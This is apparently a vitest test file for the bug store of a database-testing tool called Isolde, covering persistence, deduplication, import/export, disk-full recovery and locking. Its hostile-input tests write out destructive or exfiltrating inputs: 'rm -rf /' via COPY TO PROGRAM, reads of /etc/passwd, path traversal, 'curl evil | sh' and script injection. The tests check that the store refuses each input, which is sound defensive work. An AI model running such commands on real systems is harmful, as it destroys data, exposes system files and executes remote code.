import { execFile, spawn } from 'node:child_process';
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { signatureVersion } from '../dedupe/index.js';
import { probeCases } from '../probe/index.js';
import { findBug } from '../report/found-bug.case.js';
import type { Bug } from '../report/index.js';
import { openTarget } from '../targets/index.js';
import { diskFiles, type StoreFiles } from './files.js';
import { openStore } from './store.js';

let root: string;
let folder: string;
let bug: Bug;
/** The same bug in another form. */
let form: Bug;
let other: Bug;
let made = 0;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'isolde-store-'));
  const found = async (url: string, id: string, kind: string) => {
    const target = await openTarget(url);
    const scratch = await target.createScratch();
    try {
      return await findBug({ target, scratch, scheduled: probeCases.find((each) => each.id === id)!, kind });
    } finally {
      await target.close();
    }
  };
  bug = await found('duckdb:', 'lost-update-deleted-row', 'update-of-changed-row');
  form = await found('duckdb:', 'lost-update-by-delete', 'update-of-changed-row');
  other = await found('duckdb:?fault=dirty-read', 'G1a', 'dirty-read');
});
afterAll(() => rm(root, { recursive: true, force: true }));
beforeEach(() => {
  folder = join(root, `store${made++}`);
});

const later = (minutes: number): string => new Date(Date.UTC(2026, 5, 1, 0, minutes)).toISOString();

describe('the store', () => {
  it('gives back what was put in, from files people can read', async () => {
    const store = await openStore(folder);
    expect(await store.add(bug, { raw: bug.history })).toEqual({ id: bug.id, isNew: true, count: 1 });
    expect(await (await openStore(folder)).get(bug.id)).toEqual(bug);
    const names = await readdir(store.folderOf(bug.id));
    expect(names.sort()).toEqual(
      [
        'bug.json',
        'case.case.json',
        'case.sql',
        'confirmed.history.jsonl',
        'exports',
        'finding.json',
        'raw.history.jsonl.gz',
        'report.html',
        'report.md',
        'runs.jsonl',
      ].sort(),
    );
    expect(await readdir(join(store.folderOf(bug.id), 'exports'))).toEqual([
      'bug-report.md',
      'repro.mjs',
      'repro.sql',
    ]);
    expect(await readdir(join(folder, 'tmp'))).toEqual([]);
    expect((await readdir(folder)).sort()).toEqual(['bugs', 'store.json', 'tmp']);
  });

  it('counts five hundred findings of one bug as one entry, and others apart', async () => {
    const store = await openStore(folder);
    for (let i = 0; i < 100; i++) {
      const seen = { ...bug, seed: String(i), count: 5, firstSeen: later(i), lastSeen: later(i) };
      expect(await store.add(seen)).toEqual({ id: bug.id, isNew: i === 0, count: 5 * (i + 1) });
    }
    expect((await store.add(other)).isNew).toBe(true);
    const { bugs } = await store.list();
    expect(bugs.map(({ id, count }) => [id, count])).toEqual([
      [bug.id, 500],
      [other.id, 1],
    ]);
    expect(bugs[0]).toMatchObject({ firstSeen: later(0), lastSeen: later(99) });
    const runs = (await readFile(join(store.folderOf(bug.id), 'runs.jsonl'), 'utf8')).trim().split('\n');
    expect(runs).toHaveLength(100);
    expect(JSON.parse(runs[99]!)).toMatchObject({ kind: 'found', seed: '99' });
    expect(await readFile(join(store.folderOf(bug.id), 'report.md'), 'utf8')).toContain('500 times');
  });

  it('counts the forms of one bug within its entry', async () => {
    const store = await openStore(folder);
    await store.add({ ...bug, count: 2 });
    expect(await store.add({ ...form, count: 3 })).toEqual({ id: bug.id, isNew: false, count: 5 });
    await store.add(bug);
    const kept = await store.get(bug.id);
    const [one, two] = [bug, form].map(({ variants }) => variants![0]!.variant);
    expect(one).not.toBe(two);
    expect(kept.variants).toEqual([
      { variant: one, kind: 'update-of-changed-row', count: 3 },
      { variant: two, kind: 'update-of-changed-row', count: 3 },
    ]);
    expect(kept.case).toEqual(bug.case);
    expect(await readFile(join(store.folderOf(bug.id), 'report.md'), 'utf8')).toContain('2 forms, 6 times');
  });

  it('knows bugs an older release kept under another signature, and what was ignored by it', async () => {
    // As before forms were counted: the signature of a bug was that of its form.
    const { variants, ...rest } = bug;
    const old = { ...rest, id: 'duckdb-update-of-changed-row-3f9a2c41', signature: variants![0]!.variant };
    await (await openStore(folder)).add(old);
    const store = await openStore(folder);
    expect(await store.isIgnored(form)).toBe(false);
    expect(await store.add(form)).toEqual({ id: old.id, isNew: false, count: 2 });
    expect((await store.add(other)).isNew).toBe(true);
    const again = await openStore(folder);
    expect(await again.add(bug)).toEqual({ id: old.id, isNew: false, count: 3 });
    await again.ignore(old.signature);
    expect(await again.isIgnored(bug)).toBe(true);
    expect(await again.isIgnored(form)).toBe(true);
    expect(await again.isIgnored(other)).toBe(false);
  });

  it('reads nothing but the record of a bug that is signed as today', async () => {
    const store = await openStore(folder);
    // As if an older release had kept the bug under another signature, were it not for what its record says.
    const old = { ...other, id: 'duckdb-dirty-read-3f9a2c41', signature: '3f9a2c41aaaa' };
    await store.add(old);
    const record = join(store.folderOf(old.id), 'bug.json');
    const fields = JSON.parse(await readFile(record, 'utf8'));
    expect(fields).not.toHaveProperty('signedBy');
    await writeFile(record, JSON.stringify({ ...fields, signedBy: signatureVersion }));
    expect((await (await openStore(folder)).add(other)).isNew).toBe(true);
    const made = JSON.parse(await readFile(join(store.folderOf(other.id), 'bug.json'), 'utf8'));
    expect(made.signedBy).toBe(signatureVersion);
  });

  it('finds a bug by its id, the beginning or end of it, and its signature; says when that is not one bug', async () => {
    const store = await openStore(folder);
    await store.add(bug);
    await store.add(other);
    expect((await store.get(bug.signature)).id).toBe(bug.id);
    expect((await store.get(bug.id.slice(-8))).id).toBe(bug.id);
    await expect(store.get('duckdb')).rejects.toThrow('fits several bugs');
    for (const name of ['nothing', '../../etc', '/', '.', '']) {
      await expect(store.get(name)).rejects.toMatchObject({ code: 'usage' });
    }
  });

  it('remembers what is ignored, by id and by signature', async () => {
    const store = await openStore(folder, { now: () => later(1) });
    expect(await store.isIgnored(bug)).toBe(false);
    await store.ignore(bug.signature, 'known, \u003cscript> "quoted"');
    await store.ignore(other.id);
    await store.ignore(other.id);
    expect(await store.isIgnored(bug)).toBe(true);
    expect(await store.isIgnored(other)).toBe(true);
    expect(await store.isIgnored({ id: 'x', signature: 'y' })).toBe(false);
    expect(await (await openStore(folder)).ignored()).toHaveLength(2);
    expect([await store.unignore(other.id), await store.unignore(other.id)]).toEqual([true, false]);
    expect(await store.isIgnored(other)).toBe(false);
    expect(await store.isIgnored(bug)).toBe(true);
  });

  it('writes down on which versions a bug was tried', async () => {
    const store = await openStore(folder);
    await store.add(bug);
    const run = {
      target: { name: 'duckdb', version: 'v9' },
      outcome: 'fixed',
      shown: 0,
      runs: 3,
      at: later(2),
    } as const;
    await store.recordRun(bug.id, run);
    expect((await store.get(bug.id)).versions).toEqual([run]);
    expect(await readFile(join(store.folderOf(bug.id), 'report.md'), 'utf8')).toMatch(
      /DuckDB \| v9 .* fixed \| 0 of 3/,
    );
  });

  it('exports a bug and imports it elsewhere, once however often', async () => {
    const store = await openStore(folder);
    await store.add(bug, { raw: bug.history });
    const to = await store.exportTo(bug.id, join(root, `out${made}`));
    await expect(store.exportTo(bug.id, join(root, `out${made}`))).rejects.toThrow('it exists already');
    const second = await openStore(`${folder}-second`);
    expect(await second.importFrom(to)).toEqual([{ id: bug.id, isNew: true, count: 1 }]);
    for (let again = 0; again < 2; again++)
      expect(await second.importFrom(folder)).toEqual([{ id: bug.id, isNew: false, count: 1 }]);
    expect(await second.get(bug.id)).toEqual(bug);
    // What was seen more often elsewhere is known here, too, once.
    await store.add({ ...bug, count: 6 });
    for (let again = 0; again < 2; again++)
      expect(await second.importFrom(folder)).toEqual([{ id: bug.id, isNew: false, count: 7 }]);
    expect((await second.get(bug.id)).variants).toMatchObject([{ count: 7 }]);
    expect(await readdir(second.folderOf(bug.id))).toContain('raw.history.jsonl.gz');
  });
});

/** Runs an import of an exported bug after changing one of its files. */
async function importChanged(change: (folder: string) => Promise<void>): Promise<unknown> {
  const store = await openStore(folder);
  await store.add(bug);
  const to = await store.exportTo(bug.id, join(root, `evil${made++}`));
  await change(to);
  const second = await openStore(`${folder}-second`);
  const thrown = await second.importFrom(to).then(
    () => undefined,
    (error: unknown) => error,
  );
  expect((await second.list()).bugs).toHaveLength(thrown === undefined ? 1 : 0);
  return thrown;
}

const edit = (file: string, from: string | RegExp, to: string) => async (where: string) => {
  const path = join(where, file);
  const text = await readFile(path, 'utf8');
  expect(text).toMatch(from);
  await writeFile(path, text.replace(from, to));
};

describe('hostile and broken input', () => {
  it.each([
    ['a file that is no JSON', edit('bug.json', '"title"', 'title'), 'bug.json:5: this is not JSON'],
    ['an unknown field', edit('bug.json', '"title"', '"titel"'), 'unknown field titel'],
    ['a count that is none', edit('bug.json', '"count": 1', '"count": -1'), 'bug.json:'],
    [
      'a bug of a newer format',
      edit('bug.json', '"version": 1', '"version": 7'),
      'newer than this Isolde reads',
    ],
    ['an edge of no kind', edit('finding.json', '"oracle": "mechanism"', '"oracle": "<b>"'), 'finding.json:'],
    [
      'a case without sessions for its history',
      edit('case.case.json', /"UPDATE[^"]*",\n/, ''),
      'case.case.json',
    ],
    ['a missing file', (where: string) => rm(join(where, 'finding.json')), 'the file is missing'],
    [
      'a link to a file of the user',
      async (where: string) => {
        await rm(join(where, 'finding.json'));
        await symlink('/etc/passwd', join(where, 'finding.json'));
      },
      'not a plain file',
    ],
  ])('an import with %s is refused with file and reason', async (_, change, message) => {
    const thrown = await importChanged(change);
    expect(thrown).toBeInstanceOf(Error);
    expect((thrown as Error).message).toContain(message);
  });

  it.each([
    ['DELETE FROM public.users', 'another namespace'],
    ['DROP DATABASE postgres', 'not a statement Isolde understands'],
    ["COPY test TO PROGRAM 'rm -rf /'", 'not a statement Isolde understands'],
    ["ATTACH '/home/user/real.db'", 'not a statement Isolde understands'],
    ["SELECT * FROM read_csv('/etc/passwd')", 'its function read_csv'],
    ['SELECT pg_terminate_backend(1)', 'its function pg_terminate_backend'],
    [`SELECT "writefile"('x', 'y')`, 'its function writefile'],
    ['SET GLOBAL innodb_snapshot_isolation = OFF', 'a setting'],
    ['SET search_path = public', 'a setting'],
    ['SET STATEMENT max_statement_time = 1 FOR DROP DATABASE shop', 'not a statement Isolde understands'],
    ['TRUNCATE t, public.users', 'not a statement Isolde understands'],
    ["SELECT setval('users_id_seq', 1)", 'its function setval'],
    ["SELECT 1 /*!50000 INTO OUTFILE '/tmp/x' */", 'executable comment'],
    ["SELECT * FROM 'some.csv'", 'not a statement Isolde understands'],
    ['SELECT 1; DROP TABLE users', 'several statements'],
  ])('an import with %j is refused: it reaches out of a scratch', async (sql, reason) => {
    const statement = sql.includes(';') ? `/**/ ${sql}` : sql;
    const thrown = await importChanged(
      edit('case.case.json', 'SELECT id, value FROM test', statement.replaceAll('"', '\\"')),
    );
    expect(thrown).toMatchObject({ code: 'safety' });
    expect((thrown as Error).message).toContain(reason);
  });

  it('takes nothing over but data: id, signature, reports and exports are made anew', async () => {
    const thrown = await importChanged(async (where) => {
      await edit('bug.json', /"id": "[^"]*"/, '"id": "../../../tmp/owned"')(where);
      await edit('bug.json', /"signature": "[^"]*"/, '"signature": "ffffffffffff"')(where);
      await edit('bug.json', /"replay": "[^"]*"/, '"replay": "curl evil | sh"')(where);
      await writeFile(join(where, 'report.html'), '<script>alert(1)</script>');
      await writeFile(join(where, 'exports', 'repro.mjs'), 'process.exit(66)');
    });
    expect(thrown).toBeUndefined();
    const second = await openStore(`${folder}-second`);
    expect(await second.get(bug.id)).toEqual(bug);
    expect(await readFile(join(second.folderOf(bug.id), 'report.html'), 'utf8')).not.toContain('alert(1)');
    expect(await readFile(join(second.folderOf(bug.id), 'exports', 'repro.mjs'), 'utf8')).not.toContain('66');
  });

  it('reads no bug whose id is not the name of its folder, and writes nowhere else', async () => {
    const store = await openStore(folder);
    await store.add(bug);
    const record = join(store.folderOf(bug.id), 'bug.json');
    const text = await readFile(record, 'utf8');
    await mkdir(join(root, 'out'), { recursive: true });
    for (const id of ['../../../escaped', join(root, 'escaped'), 'another-name', '', '.', '..']) {
      await writeFile(record, text.replace(JSON.stringify(bug.id), JSON.stringify(id)));
      const problem = /bug\.json.*\(id\): expected ".*", the name of the folder, found/;
      expect((await store.list()).problems[0]).toMatch(problem);
      await expect(store.get(bug.id)).rejects.toThrow(problem);
      await expect(store.exportTo(bug.id, join(root, 'out'))).rejects.toThrow(problem);
      const run = { target: bug.target, outcome: 'alive', shown: 1, runs: 1, at: later(1) } as const;
      await expect(store.recordRun(bug.id, run)).rejects.toThrow(problem);
      // Found again, the bug gets its place; what stood there is put aside under the folder's name.
      expect(await store.add(bug)).toMatchObject({ id: bug.id, isNew: true });
    }
    expect(await readdir(join(root, 'out'))).toEqual([]);
    expect(await readdir(root)).not.toContain('escaped');
  });

  it('counts the unpacked bytes of a history, whatever its name says', async () => {
    const store = await openStore(folder);
    await store.add(bug);
    const header = {
      format: 'isolde-history',
      version: 1,
      sessions: ['T1'],
      case: 'x'.repeat(65 * 1024 * 1024),
    };
    const packed = gzipSync(`${JSON.stringify(header)}\n`);
    expect(packed.length).toBeLessThan(100_000);
    await writeFile(join(store.folderOf(bug.id), 'confirmed.history.jsonl'), packed);
    await expect(store.get(bug.id)).rejects.toThrow('it holds more than 67108864 bytes when unpacked');
    await expect((await openStore(join(root, 'other'))).importFrom(folder)).rejects.toThrow('when unpacked');
  });

  it('lists what it can read and says what it cannot', async () => {
    const store = await openStore(folder);
    await store.add(bug);
    await mkdir(join(folder, 'bugs', 'empty'));
    await mkdir(join(folder, 'bugs', 'torn'));
    await writeFile(join(folder, 'bugs', 'torn', 'bug.json'), '{"format": "isolde-bug", ');
    const { bugs, problems } = await store.list();
    expect(bugs.map(({ id }) => id)).toEqual([bug.id]);
    expect(problems).toEqual([
      expect.stringContaining('empty has no bug.json'),
      expect.stringContaining('torn/bug.json:1: this is not JSON'),
    ]);
  });

  it('does not keep a bug that it could not read back', async () => {
    const store = await openStore(folder);
    const { header, operations } = bug.history;
    const sessionLevels = { [header.sessions.length]: 'read committed' } as const;
    const broken: Bug = { ...bug, history: { header: { ...header, sessionLevels }, operations } };
    await expect(store.add(broken)).rejects.toThrow(
      /was not kept: it cannot be read back: .*there is no session/,
    );
    expect(await store.list()).toEqual({ bugs: [], problems: [] });
    expect(await store.add(bug)).toMatchObject({ isNew: true });
  });

  it('puts a bug aside that cannot be read when it is found again', async () => {
    const store = await openStore(folder);
    await store.add(bug);
    await writeFile(join(store.folderOf(bug.id), 'finding.json'), '{');
    await expect(store.get(bug.id)).rejects.toThrow('finding.json');
    expect(await store.add(bug)).toEqual({ id: bug.id, isNew: true, count: 1 });
    expect(await store.get(bug.id)).toEqual(bug);
    expect(await readdir(join(folder, 'unreadable'))).toEqual([`${bug.id}.1`]);
  });

  it('refuses a store of a newer format, of an older one, and a file', async () => {
    await mkdir(folder);
    await writeFile(join(folder, 'store.json'), '{"format": "isolde-store", "version": 2}');
    await expect(openStore(folder)).rejects.toThrow(/store.json:1 \(version\): version 2 is newer/);
    const old = `${folder}-old`;
    await mkdir(join(old, 'bugs', 'a-bug'), { recursive: true });
    await expect(openStore(old)).rejects.toThrow('older than this Isolde reads');
    const file = `${folder}-file`;
    await writeFile(file, 'x');
    await expect(openStore(file)).rejects.toThrow(/cannot read .*: a file stands where a folder should be/);
  });

  it('says so when the folder cannot be written', async () => {
    const refuse = () => Promise.reject(Object.assign(new Error('EACCES'), { code: 'EACCES' }));
    const store = await openStore(folder, { files: { ...diskFiles, makeFolder: refuse } });
    await expect(store.add(bug)).rejects.toMatchObject({
      code: 'file-system',
      message: `cannot write ${folder}: permission denied`,
    });
  });

  it.skipIf(process.getuid?.() === 0)(
    'says so when the folder may not be read (root may read everything)',
    async () => {
      await mkdir(folder, { mode: 0o000 });
      await expect(openStore(folder)).rejects.toThrow(/cannot read .*: permission denied/);
    },
  );

  it('ignores a run that was cut off while it was written, and goes on behind it', async () => {
    const store = await openStore(folder);
    await store.add(bug);
    const file = join(store.folderOf(bug.id), 'runs.jsonl');
    await writeFile(file, `${await readFile(file, 'utf8')}{"kind":"rerun","at":"2026-`);
    const run = {
      target: { name: 'duckdb', version: 'v9' },
      outcome: 'alive',
      shown: 3,
      runs: 3,
      at: later(3),
    } as const;
    await store.recordRun(bug.id, run);
    expect((await store.get(bug.id)).versions).toEqual([run]);
  });
});

/** Files that fail at the nth use, and from then on if the process is to die there. */
function failingFiles(
  at: number,
  dies: boolean,
): { readonly files: StoreFiles; readonly used: () => number } {
  let used = 0;
  const wrap =
    <A extends unknown[]>(name: string, call: (...args: A) => Promise<void>) =>
    async (...args: A): Promise<void> => {
      const now = used++;
      if (now === at || (dies && now > at)) {
        // A full disk leaves a part of what was to be written.
        if (name === 'write' && now === at) await writeFile(String(args[0]), String(args[1]).slice(0, 20));
        throw Object.assign(new Error('no space left on device'), { code: 'ENOSPC' });
      }
      await call(...args);
    };
  const files = Object.fromEntries(
    Object.entries(diskFiles).map(([name, call]) => [
      name,
      wrap(name, call as (...args: unknown[]) => Promise<void>),
    ]),
  ) as unknown as StoreFiles;
  return { files, used: () => used };
}

describe('a full disk, and a kill between any two writes', () => {
  it.each([false, true])('leave the store as it was or with the bug whole (kill: %s)', async (dies) => {
    const healthy = failingFiles(-1, false);
    const counted = await openStore(`${folder}-count`, { files: healthy.files });
    await counted.add(bug, { raw: bug.history });
    const first = healthy.used();
    await counted.add(bug);
    expect(first).toBeGreaterThan(12);
    for (let at = 0; at < healthy.used(); at++) {
      const where = `${folder}-${at}`;
      const { files } = failingFiles(at, dies);
      const store = await openStore(where, { files });
      const outcomes = [];
      for (let i = 0; i < 2; i++) {
        outcomes.push(
          await store.add(bug, { raw: bug.history }).then(
            () => 'added',
            (error: Error & { code?: string }) => {
              expect(error).toMatchObject({
                code: 'file-system',
                message: expect.stringContaining('the disk is full'),
              });
              return 'failed';
            },
          ),
        );
      }
      expect(outcomes, `use ${at}`).toContain('failed');
      const again = await openStore(where);
      const { bugs, problems } = await again.list();
      expect(problems).toEqual([]);
      if (bugs.length > 0)
        expect({ ...(await again.get(bug.id)), count: 1, variants: bug.variants }).toEqual(bug);
      const before = bugs[0]?.count ?? 0;
      expect(await again.add(bug)).toMatchObject({ count: before + 1 });
      expect(await readdir(join(where, 'tmp'))).toEqual([]);
    }
  });
});

describe('several writers', () => {
  it('wait for each other: no finding is lost', async () => {
    const stores = await Promise.all([1, 2, 3].map(() => openStore(folder)));
    await Promise.all(
      stores.flatMap((store) => Array.from({ length: 10 }, (_, i) => store.add(i % 2 === 0 ? bug : other))),
    );
    const { bugs, problems } = await stores[0]!.list();
    expect(problems).toEqual([]);
    expect(bugs.map(({ count }) => count).sort()).toEqual([15, 15]);
  });

  it('wait for another process, and take over from one that was killed', async () => {
    await mkdir(folder);
    const child = fork(folder);
    await child.says('locked');
    const store = await openStore(folder);
    let done = false;
    const adding = store.add(bug).then((added) => {
      done = true;
      return added;
    });
    expect(await readdir(folder)).toContain('lock');
    child.send('release');
    await child.says('released');
    expect((await adding).isNew).toBe(true);
    expect(done).toBe(true);

    const second = fork(folder);
    await second.says('locked');
    second.kill();
    await second.ended;
    expect(await readdir(folder)).toContain('lock');
    expect((await store.add(bug)).count).toBe(2);
  });

  it('break the lock of a process that is gone, all at once', async () => {
    await mkdir(folder);
    const { hostname } = await import('node:os');
    const dead = await deadProcess();
    await writeFile(join(folder, 'lock'), JSON.stringify({ pid: dead, host: hostname() }));
    await writeFile(join(folder, `lock.${dead}.0`), JSON.stringify({ pid: dead, host: hostname() }));
    const waiter = join(folder, 'lock.1.0');
    await writeFile(waiter, JSON.stringify({ pid: process.ppid, host: hostname() }));
    const stores = await Promise.all([1, 2, 3, 4].map(() => openStore(folder)));
    await Promise.all(stores.map((store) => store.add(bug)));
    expect((await stores[0]!.list()).bugs[0]!.count).toBe(4);
    expect((await readdir(folder)).filter((name) => name.startsWith('lock'))).toEqual(['lock.1.0']);
  });

  it('say who holds the lock when they cannot get it', async () => {
    await mkdir(folder);
    const { hostname } = await import('node:os');
    await writeFile(join(folder, 'lock'), JSON.stringify({ pid: process.pid, host: hostname() }));
    const store = await openStore(folder, { waitMs: 50 });
    await expect(store.add(bug)).rejects.toThrow(`process ${process.pid} on ${hostname()}`);
    const impatient = await openStore(folder, { staleMs: 1 });
    await expect(impatient.add(bug)).resolves.toMatchObject({ isNew: true });
  });
});

/** Another process that takes the lock of a store the way Isolde does, and gives it back when told. */
function fork(store: string) {
  const code = `
    const { writeFileSync, linkSync, rmSync } = require('node:fs');
    const { hostname } = require('node:os');
    const [mine, lock] = [process.argv[1] + '/lock.' + process.pid, process.argv[1] + '/lock'];
    writeFileSync(mine, JSON.stringify({ pid: process.pid, host: hostname() }));
    linkSync(mine, lock);
    rmSync(mine);
    console.log('locked');
    process.stdin.once('data', () => {
      rmSync(lock);
      console.log('released');
      process.exit(0);
    });`;
  const child = spawn(process.execPath, ['-e', code, store], { stdio: ['pipe', 'pipe', 'inherit'] });
  let said = '';
  child.stdout.on('data', (data) => {
    said += String(data);
  });
  return {
    says: (word: string) => vi.waitFor(() => expect(said).toContain(word), { timeout: 10_000, interval: 5 }),
    send: (word: string) => child.stdin.write(word),
    kill: () => child.kill('SIGKILL'),
    ended: new Promise((resolve) => child.once('exit', resolve)),
  };
}

/** The number of a process that has ended. */
function deadProcess(): Promise<number> {
  return new Promise((resolve) => {
    const child = execFile(process.execPath, ['-e', '0'], () => resolve(child.pid!));
  });
}
